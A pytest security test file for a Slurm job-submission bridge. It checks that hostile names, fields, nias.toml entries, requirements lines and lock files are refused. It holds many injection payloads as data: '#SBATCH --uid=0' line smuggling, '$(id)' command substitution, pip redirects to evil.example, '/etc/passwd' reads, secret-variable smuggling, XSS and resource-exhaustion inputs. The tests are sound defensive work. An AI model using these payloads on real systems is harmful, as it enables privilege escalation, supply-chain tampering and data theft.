"""Claims about hostile words: names, fields, nias.toml and requirements reach no shell and no Slurm
option, are refused in a sentence, and cost neither time nor memory."""

from __future__ import annotations

import io
import itertools
import json
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from client import zipped
from doors import GROWTH, Answer, Gateway, Node, form
from staged import here

from nias_bridge.domain import Program, Run
from nias_bridge.node import layout
from nias_bridge.script import render
from nias_bridge.settings import Settings

PLAIN_JOB = 48 * 1024**2
MIB = 1024**2
numbers = itertools.count(1)


def project(files: Mapping[str, str | bytes]) -> bytes:
    """The zip of a project of a new name, whose code.py does nothing."""
    body, name = io.BytesIO(), f"words-{next(numbers)}"
    with zipfile.ZipFile(body, "w") as out:  # stored: what is deflated well is refused as a bomb
        for path, content in {"code.py": "pass\n", **files}.items():
            out.writestr(f"{name}/{path}", content)
    return body.getvalue()


def run_of(gateway: Gateway, answer: Answer) -> Run:
    assert answer.status == 202, answer.said
    return gateway.bridge.store.run(json.loads(answer.body)["id"])


# Names of projects

NAMES = {
    "a line of its own": "a\n#SBATCH --uid=0",
    "a returned line": "a\r#SBATCH --wrap=id",
    "a tab": "a\tb",
    "a NUL": "a\0b",
    "quotes": "a'; id; '",
    "double quotes": 'a"; id; "',
    "a command": "$(id)",
    "a command in backticks": "`id`",
    "a variable": "${HOME}",
    "a template": "{{ 7*7 }}",
    "markup": "<script>alert(1)</script>",
    "an option": "--wrap=id",
    "a short option": "-n",
    "the folder above": "..",
    "a way out": "..%2f..%2fetc",
    "a hidden one": ".ssh",
    "a formula": "=1+1",
    "an arrow": "a>b",
    "a pipe": "a|b",
    "a star": "*",
    "right to left": "a\u202eb",
    "half a surrogate pair": "a\ud800b",
    "too long": "a" * 65,
    "very long": "a" * 1000,
    "nothing": "",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES.keys())
def test_a_name_that_says_more_than_a_name_is_refused_at_every_door(
    name: str, gateway: Gateway
) -> None:
    bare = io.BytesIO()
    with zipfile.ZipFile(bare, "w") as out:
        out.writestr("code.py", "pass")
    body = bare.getvalue()
    quoted = name.encode("utf-8", "surrogatepass")
    with gateway.unwritten(), gateway.bounded():
        answers = [
            gateway.ask(
                "POST",
                "/api/v1/runs?filename=" + "".join(f"%{byte:02x}" for byte in quoted) + ".zip",
                body,
            ),
            gateway.ask(
                "POST", "/api/v1/runs", body,
                {"Content-Disposition": "attachment; filename*=UTF-8''"
                 + "".join(f"%{byte:02x}" for byte in quoted) + ".zip"},
            ),
        ]  # fmt: skip
        if not set(name) & set('\r\n\0"\ud800'):  # a form's header can't hold these
            answers.append(gateway.send_page(body, f"{name}.zip"))
        for answer in answers:
            assert answer.status in (400, 422), answer.said
            assert len(answer.said) < 4000
            assert "<script>alert" not in answer.text


def test_a_filename_of_a_megabyte_is_refused_in_a_short_answer(gateway: Gateway) -> None:
    body, kind = form({}, project({}), "a" * MIB)
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.ask("POST", "/api/v1/runs", body, kind)
    assert answer.status in (400, 413, 422)
    assert len(answer.body) < 4000


# Fields, by query and form

FIELDS = [
    ("time", "30\n#SBATCH --uid=0"),
    ("time", "30 --wrap=id"),
    ("time", "--wrap=id"),
    ("time", "30;id"),
    ("time", "٣٠"),
    ("time", "9" * 3000),
    ("time", "0"),
    ("time", "-1"),
    ("memory", "8G --export=ALL"),
    ("memory", "8G\n#SBATCH --wrap=id"),
    ("memory", "8G\0"),
    ("memory", "1e9G"),
    ("memory", "8Z"),
    ("partition", "main --uid=0"),
    ("partition", "main\n#SBATCH --uid=0"),
    ("partition", "--uid=0"),
    ("partition", "-p"),
    ("partition", "$(id)"),
    ("partition", "`id`"),
    ("partition", "a,b"),
    ("partition", "é"),
    ("partition", "a" * 65),
    ("cpus", "2 --uid=0"),
    ("cpus", "0"),
    ("cpus", "-1"),
    ("cpus", "1e3"),
    ("cpus", "٣"),
    ("cpus", "9" * 30),
    ("cpus", "9" * 3900),
    ("gpus", "1\n#SBATCH --uid=0"),
    ("gpus", "9" * 30),
    ("gpus", "-1"),
]


@pytest.mark.parametrize(("field", "value"), FIELDS, ids=lambda text: ascii(text)[:40])
def test_a_field_holds_nothing_but_what_it_is_for(field: str, value: str, gateway: Gateway) -> None:
    body = project({})
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.send(body, **{field: value})
    assert answer.status in (400, 422), answer.said
    assert answer.said.startswith(field), answer.said
    held = gateway.send_page(body).headers["location"]
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.post(held, **{field: value})
    assert answer.status in (400, 422), answer.said


SMUGGLED = {"wrap": "id", "export": "ALL", "uid": "0", "gid": "0", "account": "root",
            "qos": "high", "chdir": "/", "output": "/etc/x", "owner": "other",
            "state": "COMPLETED", "job_id": "1"}  # fmt: skip
OPTIONS = {"--job-name", "--chdir", "--comment", "--output", "--nodes", "--ntasks", "--time",
           "--exclusive", "--mem", "--no-requeue", "--signal", "--cpus-per-task"}  # fmt: skip


def directives(script: str) -> dict[str, str]:
    """The options that sbatch would read in a script: those before its first command."""
    found = {}
    for line in script.split("\n"):
        if line.startswith("#SBATCH"):
            for word in shlex.split(line)[1:]:
                name, _, value = word.partition("=")
                found[name] = value
        elif line.strip() and not line.lstrip().startswith("#"):
            break
    return found


def test_fields_that_do_not_exist_reach_nothing(gateway: Gateway) -> None:
    body = project({})
    by_api = run_of(gateway, gateway.send(body, cpus=2, **SMUGGLED))
    held = gateway.send_page(body).headers["location"]
    answer = gateway.post(held, again="1", cpus="2", **SMUGGLED)
    by_page = gateway.bridge.store.run(int(answer.headers["location"].rpartition("/")[2]))
    for run in (by_api, by_page):
        assert run.owner == gateway.bridge.person.handle
        options = directives(render(run, gateway.bridge.paths, gateway.bridge.settings))
        assert set(options) <= OPTIONS
        assert options["--cpus-per-task"] == "2"
        assert options["--chdir"] == str(here(gateway.bridge).run(run).folder)


ARGUMENTS = (
    "\n#SBATCH --uid=0\n", "$(id)", "`id`", "'; id; '", '"; id; "', "--", "-c", "${HOME}", "\\",
    "\t", "{{ 7*7 }}", "*", "!!", "&", "é", "\u202e", "", "a b",
)  # fmt: skip


def test_arguments_reach_the_program_as_they_stand_and_sbatch_not_at_all(
    gateway: Gateway, tmp_path: Path
) -> None:
    written = json.dumps(list(ARGUMENTS))
    answer = gateway.send(project({"nias.toml": f"[job]\nargs = {written}\n"}))
    run = run_of(gateway, answer)
    assert run.program.args == ARGUMENTS
    echo = tmp_path / "python with a space"
    echo.write_text(f"#!{sys.executable}\nimport json, sys\nprint(json.dumps(sys.argv[1:]))\n")
    echo.chmod(0o755)
    settings: Settings = gateway.bridge.settings.model_copy(update={"python": str(echo)})
    script = render(run, gateway.bridge.paths, settings)
    assert set(directives(script)) <= OPTIONS
    said = subprocess.run(["bash", "-c", script], capture_output=True, check=True, text=True)
    heard = json.loads(said.stdout)
    assert heard[heard.index("--") + 1 :] == [Program().main, *ARGUMENTS]


# nias.toml

DEEP = 20_000
TOML: dict[str, str | bytes | Callable[[], str]] = {
    "main above": '[job]\nmain = "../../x.py"',
    "main absolute": '[job]\nmain = "/etc/x.py"',
    "main by backslash": '[job]\nmain = "..\\\\x.py"',
    "main by drive": '[job]\nmain = "C:x.py"',
    "main with a NUL": '[job]\nmain = "a\\u0000.py"',
    "main with a line": '[job]\nmain = "a\\n#SBATCH --wrap=x.py"',
    "main that is an option": '[job]\nmain = "-c.py"',
    "main that is not there": '[job]\nmain = "other.py"',
    "main as a list": '[job]\nmain = ["code.py"]',
    "an argument with a NUL": '[job]\nargs = ["a\\u0000b"]',
    "an argument too long": lambda: f'[job]\nargs = ["{"a" * 4097}"]',
    "too many arguments": lambda: f"[job]\nargs = {['a'] * 201}",
    "arguments that are no texts": "[job]\nargs = [1]",
    "time with an option": '[job]\ntime = "30 --wrap=id"',
    "time with a line": '[job]\ntime = "30\\n#SBATCH --uid=0"',
    "time as a number": "[job]\ntime = 30",
    "time as a date": "[job]\ntime = 1979-05-27T07:32:00Z",
    "memory with an option": '[job]\nmemory = "8G --uid=0"',
    "partition with an option": '[job]\npartition = "main --uid=0"',
    "partition that is an option": '[job]\npartition = "--uid=0"',
    "python as a path": '[job]\npython = "../../bin/sh"',
    "datasets above": '[job]\ndatasets = ["../x"]',
    "cpus huge": lambda: f"[job]\ncpus = {'9' * 5000}",
    "cpus huge in hex": lambda: f"[job]\ncpus = 0x{'f' * 5000}",
    "cpus infinite": "[job]\ncpus = inf",
    "cpus not a number": "[job]\ncpus = nan",
    "cpus negative": "[job]\ncpus = -1",
    "cpus as a truth": "[job]\ncpus = true",
    "options of sbatch": '[job]\nwrap = "id"\nexport = "ALL"\nuid = 0',
    "a table of its own": '[slurm]\naccount = "root"',
    "no TOML": "\0\xff",
    "a date that is none": "[job]\ntime = 2024-99-99",
    "deep lists": lambda: f"[job]\nargs = {'[' * DEEP}",
    "deep tables": lambda: f"[job]\nargs = {'{a=' * DEEP}",
    "a deep key": lambda: f"[job]\ntime{'.a' * DEEP} = 1",
    "a deep table": lambda: f"[{'.'.join('a' * DEEP)}]",
    "many keys": lambda: "\n".join(f"a{n} = 1" for n in range(500_000)),
    "many tables": lambda: "\n".join(f"[a{n}]" for n in range(500_000)),
    "16 MB of a comment": lambda: "#" * (16 * MIB),
    "3 MB of a text": lambda: f'[job]\nargs = ["{"a" * (3 * MIB)}"]',
    "17 MB": lambda: "#" * (17 * MIB),
    "a long list": lambda: f"[job]\nargs = [{'1,' * MIB}]",
    "a billion tasks": lambda: "[sweep.grid]\n" + "\n".join(
        f"p{n} = {list(range(100))}" for n in range(5)),
    "a value with a line": '[sweep.grid]\na = ["x\\n#SBATCH --uid=0"]',
    "a value with a NUL": '[sweep.grid]\na = ["x\\u0000"]',
    "a value that is huge": lambda: f"[sweep.grid]\na = [0x{'f' * 5000}]",
    "a value that is infinite": "[sweep.grid]\na = [inf]",
    "a name that is a variable": '[sweep.grid]\n"LD PRELOAD=/x" = ["a"]\n"1" = [2]',
    "a table above": '[sweep]\nfile = "../x.csv"',
    "a table elsewhere": '[sweep]\nfile = "/etc/passwd"',
    "too many at once": lambda: f"[sweep]\nmax_parallel = {'9' * 50}\ngrid = {{a = [1]}}",
    "half a surrogate pair": b'[job]\nmain = "\xed\xa0\x80.py"',
}  # fmt: skip


@pytest.mark.parametrize("toml", TOML.values(), ids=TOML.keys())
def test_a_nias_toml_that_can_not_be_is_refused_by_page_and_api(
    toml: str | bytes | Callable[[], str], gateway: Gateway
) -> None:
    text = toml() if callable(toml) else toml
    body = project({"nias.toml": text, "-c.py": ""})
    with gateway.unwritten(), gateway.bounded():
        for answer in (gateway.send(body), gateway.send_page(body)):
            assert answer.status == 422, answer.said
            assert "nias.toml" in answer.said
            assert len(answer.body) < 100_000


TABLES: dict[str, Callable[[], str | bytes]] = {
    "nothing": lambda: "",
    "one cell of 10 MB": lambda: "a\n" + "1" * (10 * MIB),
    "a million columns": lambda: "a," * MIB,
    "a million rows": lambda: "a\n" + "1\n" * MIB,
    "an open quote": lambda: 'a\n"' + "x\n" * 10_000,
    "NULs": lambda: "a\n" + "\0" * 10_000,
    "a line in a cell": lambda: 'a\n"x\n#SBATCH --uid=0"',
    "16 MB of commas": lambda: "," * (15 * MIB),
    "long names": lambda: ("a" * 1000 + "\n") * 2,
}


@pytest.mark.parametrize("table", TABLES.values(), ids=TABLES.keys())
def test_a_table_that_can_not_be_is_refused(
    table: Callable[[], str | bytes], gateway: Gateway
) -> None:
    body = project({"nias.toml": '[sweep]\nfile = "t.csv"', "t.csv": table()})
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.send(body)
    assert answer.status == 422, answer.said
    assert "t.csv" in answer.said
    assert len(answer.body) < 100_000


# What is to be installed

LINES = [
    "-r /etc/passwd",
    "-r/etc/passwd",
    "--requirement=/etc/passwd",
    "-c /etc/passwd",
    "--constraint /etc/passwd",
    "-e .",
    "-e git+https://example.org/x",
    "--editable=/etc",
    "-i http://evil.example/",
    "--index-url http://evil.example/",
    "--index-url=http://evil.example/",
    "--extra-index-url http://evil.example/",
    "-f /tmp",
    "--find-links=file:///tmp",
    "--trusted-host evil.example",
    "--no-index",
    "--pre",
    "--no-binary :all:",
    "--config-settings=x",
    "--global-option=x",
    "--python-version 2",
    "file:///etc/passwd",
    "file:/etc/passwd",
    "FILE:///etc/passwd",
    "/etc/passwd",
    "./x.whl",
    "../x",
    "~/x",
    "C:\\x.whl",
    "\\\\server\\x.whl",
    "http://evil.example/x",
    "https://evil.example/x.zip",
    "x @ http://evil.example/x",
    "x@http://evil.example/x",
    "x[a] @ https://evil.example/x.tar.gz",
    "x @ file:///etc/passwd",
    "x @ /etc/passwd",
    "x @ ../x",
    "git+https://example.org/x",
    "git+ssh://git@example.org/x",
    "git+file:///etc",
    "hg+http://example.org/x",
    "x @ git+https://example.org/x@main#egg=y",
    "${SECRET}",
    "x==${SECRET}",
    "x @ ${SECRET}",
    "x; python_version > '${SECRET}'",
    'x; sys_platform == "${SECRET}"',
    "https://${TOKEN}@example.org/x",
    "x --index-url http://evil.example/",
    "x==1 --index-url http://evil.example/",
    "x; python_version > '3' --index-url http://evil.example/",
    "x; python_version > '3' -r /etc/passwd",
    "x \\\n--index-url http://evil.example/",
    "-\\\nr /etc/passwd",
    "x --hash=sha256:zz",
    "x --hash=sha256:00 --index-url http://evil.example/",
    "x --install-option=--x",
    "x\0",
    "\x1b[31mx",
    "x\x7f",
    "x==1;",
    "x==1; y",
    "x, y",
    "$(id)",
    "`id`",
    "x;id",
    "x && id",
    "<script>alert(1)</script>",
    "=1+1",
    "x" * 501,
    "x==" + "1" * 1_000_000,
]


def pyproject(line: str) -> dict[str, str]:
    return {"pyproject.toml": f"[project]\nname = 'a'\ndependencies = [{json.dumps(line)}]\n"}


def script(line: str) -> dict[str, str]:
    return {"code.py": f"# /// script\n# dependencies = [{json.dumps(line)}]\n# ///\npass\n"}


WAYS: dict[str, Callable[[str], dict[str, str]]] = {
    "requirements.txt": lambda line: {"requirements.txt": line},
    "pyproject.toml": pyproject,
    "code.py": script,
}
EACH_WAY = pytest.mark.parametrize("way", WAYS)
EACH_LINE = pytest.mark.parametrize("line", LINES, ids=lambda line: ascii(line)[1:50])


@EACH_WAY
@EACH_LINE
def test_a_line_that_names_more_than_a_package_is_refused_by_page_and_api(
    line: str, way: str, gateway: Gateway
) -> None:
    body = project(WAYS[way](line))
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.send(body)
        assert answer.status == 422, answer.said
        assert way in answer.said
        assert json.loads(answer.body)["problems"]
        assert len(answer.body) < 100_000
    shown = gateway.send_page(body)
    assert shown.status == 303
    page = gateway.get(shown.headers["location"])
    assert page.status == 200
    assert way in page.said
    assert "<script>alert" not in page.text
    with gateway.unwritten():  # nor is it taken by who does not look
        assert gateway.post(shown.headers["location"]).status == 422


@EACH_LINE
def test_a_line_that_names_more_than_a_package_is_refused_by_the_node(
    line: str, node: Node, job_folder: Path
) -> None:
    for way, files in WAYS.items():
        (job_folder / layout.ARCHIVE).write_bytes(zipped("p", {"code.py": "pass", **files(line)}))
        ended = node.run(job_folder)
        assert (ended.told["reason"], ended.told["exit_code"]) == ("environment", None)
        assert way in ended.said
        assert ended.peak < PLAIN_JOB + GROWTH
        shutil.rmtree(job_folder / layout.CLAIMS)


def mended(gateway: Gateway, line: str) -> tuple[str, ...]:
    answer = gateway.send(project({"requirements.txt": line}), mend=1)
    if answer.status == 422:
        return ()
    return run_of(gateway, answer).contents.requirements


@EACH_LINE
def test_what_is_mended_asks_for_a_package_of_the_index_and_no_more(
    line: str, gateway: Gateway
) -> None:
    for requirement in mended(gateway, line):
        assert re.fullmatch(r"[A-Za-z0-9._-]+(?:==[A-Za-z0-9.]+)?", requirement)


LOCK_HEAD = """version = 1
[[package]]
name = "a"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "x" }]
[[package]]
name = "x"
version = "1"
"""
LOCKS: dict[str, Callable[[], str]] = {
    "from a repository": lambda: LOCK_HEAD + 'source = { git = "https://example.org/x" }',
    "from a file": lambda: LOCK_HEAD + 'source = { path = "/etc/passwd" }',
    "from an address": lambda: LOCK_HEAD + 'source = { url = "http://evil.example/x.whl" }',
    "from another folder": lambda: LOCK_HEAD + 'source = { directory = "../x" }',
    "an option as a name": lambda: LOCK_HEAD.replace('"x"', '"--index-url http://evil"')
    + 'source = { registry = "" }',
    "an option as a version": lambda: LOCK_HEAD.replace('"1"', '"1 --index-url http://evil"')
    + 'source = { registry = "" }',
    "a line as a version": lambda: LOCK_HEAD.replace('"1"', '"1\\n-r /etc/passwd"')
    + 'source = { registry = "" }',
    "an option as a hash": lambda: LOCK_HEAD
    + 'source = { registry = "" }\nsdist = { url = "x.zip", hash = "sha256:0 -r /etc/passwd" }',
    "a variable as a condition": lambda: LOCK_HEAD.replace(
        '{ name = "x" }', '{ name = "x", marker = "sys_platform == \'${SECRET}\'" }')
    + 'source = { registry = "" }',
    "no names": lambda: "[[package]]\nsource = 1\n",
    "of other kinds": lambda: LOCK_HEAD.replace('"x"', "[1, [2]]") + "source = 7",
    "ways without end": lambda: ways_without_end(40),
    "deep lists": lambda: f"package = {'[' * DEEP}",
    "a huge number": lambda: f"version = {'9' * 5000}",
    "many packages": lambda: "[[package]]\n" * 300_000,
}  # fmt: skip


def ways_without_end(length: int) -> str:
    """Each package needs the next one for two reasons: 2^length conditions lead to the last."""

    def package(number: int, source: str) -> str:
        needs = ", ".join(
            f'{{ name = "p{number + 1}", marker = "extra == \'{number}{side}\'" }}' for side in "ab"
        )
        return (
            f'[[package]]\nname = "p{number}"\nversion = "1"\nsource = {{ {source} }}\n'
            f"dependencies = [{needs}]\n"
        )

    first = package(0, 'virtual = "."')
    rest = "".join(package(number, 'registry = ""') for number in range(1, length))
    last = f'[[package]]\nname = "p{length}"\nversion = "1"\nsource = {{registry = ""}}\n'
    return first + rest + last


@pytest.mark.parametrize("lock", LOCKS.values(), ids=LOCKS.keys())
def test_a_lock_that_leads_elsewhere_is_refused_at_every_door(
    lock: Callable[[], str], gateway: Gateway, node: Node, job_folder: Path
) -> None:
    body = project({"uv.lock": lock()})
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.send(body)
        assert answer.status == 422, answer.said
        assert "uv.lock" in answer.said
        assert len(answer.body) < 100_000
    (job_folder / layout.ARCHIVE).write_bytes(body)
    ended = node.run(job_folder)
    assert (ended.told["reason"], ended.told["exit_code"]) == ("environment", None)
    assert "uv.lock" in ended.said
    assert ended.peak < PLAIN_JOB + GROWTH


HUGE: dict[str, tuple[str, Callable[[], str]]] = {
    "a line of 1 MB": ("requirements.txt", lambda: "x" * MIB),
    "a million lines": ("requirements.txt", lambda: "x\n" * MIB),
    "a million lines in one": ("requirements.txt", lambda: "x\\\n" * MIB),
    "a million bad lines": ("requirements.txt", lambda: "-r x\n" * MIB),
    "a million hashes": ("requirements.txt", lambda: "x" + " --hash=sha256:00" * 300_000),
    "spaces": ("requirements.txt", lambda: "x" + " " * (2 * MIB) + "y"),
    "brackets": ("requirements.txt", lambda: "x[" * 250),
    "clauses": ("requirements.txt", lambda: "x" + ">=1," * 120 + "!"),
    "deep lists in pyproject.toml": ("pyproject.toml", lambda: f"a = {'[' * DEEP}"),
    "a deep key in pyproject.toml": ("pyproject.toml", lambda: f"project{'.a' * DEEP} = 1"),
    "a huge number in pyproject.toml": ("pyproject.toml", lambda: f"a = {'9' * 5000}"),
    "8 MB of pyproject.toml": (
        "pyproject.toml", lambda: "[project]\n" + "\n".join(f"a{n}=1" for n in range(800_000))),
    "a long list in pyproject.toml": (
        "pyproject.toml", lambda: '[project]\ndependencies = [' + '"x",' * MIB + ']'),
    "no list in pyproject.toml": ("pyproject.toml", lambda: "[project]\ndependencies = 1"),
}  # fmt: skip


@pytest.mark.parametrize(("file", "text"), HUGE.values(), ids=HUGE.keys())
def test_a_huge_or_odd_file_of_requirements_is_refused_at_little_cost(
    file: str, text: Callable[[], str], gateway: Gateway, node: Node, job_folder: Path
) -> None:
    body = project({file: text()})
    with gateway.unwritten(), gateway.bounded():
        answer = gateway.send(body)
        assert answer.status == 422, answer.said
        assert len(answer.body) < 4 * MIB
    shown = gateway.send_page(body)
    with gateway.bounded():
        assert shown.status in (303, 422)
        if shown.status == 303:
            assert gateway.get(shown.headers["location"]).status == 200
    (job_folder / layout.ARCHIVE).write_bytes(body)
    ended = node.run(job_folder)
    assert ended.told["reason"] == "environment", ended.told
    assert ended.peak < PLAIN_JOB + GROWTH


CODES: dict[str, Callable[[], str]] = {
    "script blocks without an end": lambda: "# /// script\n" * 200_000,
    "a script block of 3 MB": lambda: "# /// script\n" + "# a\n" * (3 * MIB // 4),
    "deep brackets": lambda: "(" * DEEP,
    "a deep sum": lambda: "x = " + "1+" * 90_000 + "1",
    "a deep minus": lambda: "x = " + "-" * 90_000 + "1",
    "deep attributes": lambda: "x" + ".a" * 90_000,
    "200 kB of lists": lambda: "x = [" + "[]," * 60_000 + "]",
    "many names": lambda: "import " + ",".join(f"a{n}" for n in range(30_000)),
    "many of our machine": lambda: "\n".join(f"'/home/{n}'" for n in range(12_000)),
    "NULs": lambda: "\0" * 10_000,
    "a huge number": lambda: "x = " + "9" * 100_000,
    "a huge seed": lambda: f"import random\nrandom.seed(0x{'f' * 5000})\n",
}


@pytest.mark.parametrize("code", CODES.values(), ids=CODES.keys())
def test_code_that_is_hard_to_read_is_taken_at_little_cost(
    code: Callable[[], str], gateway: Gateway
) -> None:
    body = project({"code.py": code()})
    with gateway.bounded():
        run = run_of(gateway, gateway.send(body))
    with gateway.bounded():
        for path in (f"/runs/{run.id}", f"/api/v1/runs/{run.id}", f"/runs/{run.id}/run.json"):
            assert gateway.get(path).status == 200
